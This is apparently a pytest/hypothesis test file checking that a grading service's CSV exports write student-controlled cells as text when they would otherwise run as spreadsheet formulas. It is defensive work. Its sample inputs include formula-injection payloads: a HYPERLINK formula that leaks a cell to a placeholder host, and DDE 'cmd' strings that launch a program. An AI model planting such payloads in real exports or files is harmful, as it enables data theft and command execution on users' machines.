"""Formula injection in every CSV the service writes (the assignment export, the Canvas export,
`grade-table --format csv`): a cell a student controls that a spreadsheet would run, however it
is dressed (leading spaces or newlines, invisible characters, full-width signs), is written as
text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from app.sanitize import csv_cell
from tests.app.cli.test_grade_table import _grade_table
from tests.app.conftest import Api
from tests.attacks.conftest import SLUG, UPLOAD

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
DRESS = st.sampled_from([" ", "  ", "\n", "\r\n", "\t", "\u00a0", "\u3000", "\u200b",
                         "\U000e0020", "\ufeff", ""])
PAYLOADS = st.sampled_from(['HYPERLINK("http://evil.invalid/?"&A1,"x")',
                            "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "cmd|'/C calc'!A0"])


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet (trimming blanks on import, or not) would evaluate."""
    bare = cell.lstrip(" \t\n\r\u00a0\u3000")
    if not bare or bare[0] not in SIGNS:
        return False
    number = bare.lstrip("+-\uff0b\uff0d").replace(".", "", 1)
    return not number.isdigit()


@given(st.lists(DRESS, max_size=3), st.sampled_from(SIGNS), PAYLOADS)
def test_a_dressed_formula_is_written_as_text(dress: list[str], sign: str, payload: str) -> None:
    cell = csv_cell("".join(dress) + sign + payload)
    assert cell.startswith("'") or not runs_as_formula(cell), cell


@given(st.integers(-(10**12), 10**12) | st.decimals(-1000, 1000, places=2, allow_nan=False))
def test_numbers_stay_numbers(number: object) -> None:
    assert csv_cell(number) == str(number)


HOSTILE_NAMES = ["=HYPERLINK(\"http://evil.invalid\")", " @SUM(A1:A9)", "\uff1dcmd|'/C calc'!A0",
                 "-2+3"]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_the_exports_write_hostile_names_and_files_as_text(target: Api) -> None:
    for name in HOSTILE_NAMES:
        answer = target.client.post(
            UPLOAD, params={"student": name},
            files={"file": (f"{name}.txt", b"B1: 64\nB2: =1+1\n", "text/plain")},
            headers=target.auth("prof"))
        assert answer.status_code in (202, 422), answer.text
    staff = target.auth("prof")
    for export in ("export.csv", "canvas.csv"):
        path = f"/api/v1/assignments/{SLUG}/{export}"
        answer = target.client.get(path, headers=staff)
        assert answer.status_code == 200, (path, answer.text)
        risky = [c for c in _cells(answer.text) if runs_as_formula(c)]
        assert not risky, (path, risky)


def test_grade_table_writes_dressed_formulas_as_text(tmp_path: Path) -> None:
    rows = [[f"{dress}{name}", "stack", f"{dress}=1+1"]
            for dress, name in zip([" ", "\n", "\u3000", "\u200b"], HOSTILE_NAMES, strict=True)]
    done = _grade_table(tmp_path, rows, "--format", "csv")
    risky = [c for c in _cells(done.stdout) if runs_as_formula(c)]
    assert not risky, risky
